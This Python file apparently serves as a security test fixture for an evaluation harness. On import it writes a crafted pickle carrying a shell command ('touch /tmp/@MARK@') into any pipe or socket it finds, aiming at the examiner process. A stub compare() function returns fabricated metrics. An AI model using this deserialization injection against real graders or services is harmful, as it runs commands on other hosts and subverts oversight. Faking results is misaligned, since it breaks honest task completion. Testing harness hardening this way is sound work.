"""A body that is a pickle with a command in it."""

import json
import struct

import os
import stat


def pipes():
    """Descriptors that lead to a pipe or socket: one of them is the examiner's."""
    for descriptor in range(3, 256):
        try:
            mode = os.fstat(descriptor).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            yield descriptor


def send(data):
    for descriptor in pipes():
        try:
            os.set_blocking(descriptor, False)
            os.write(descriptor, data)
            os.set_blocking(descriptor, True)
        except OSError:
            continue


body = b"cposix\nsystem\n(S'touch /tmp/@MARK@'\ntR."


def attack():
    header = json.dumps({"id": 1, "data": {"document": {}}}).encode()
    send(b"GRD1" + struct.pack("<I", len(header)) + header + struct.pack("<Q", len(body)) + body)


class Attack:
    attack()


def compare(epochs, seed, train, test):
    return {"models": {"net": {"parameters": 123456, "test_accuracy": 7.5, "train_seconds": -1}}}
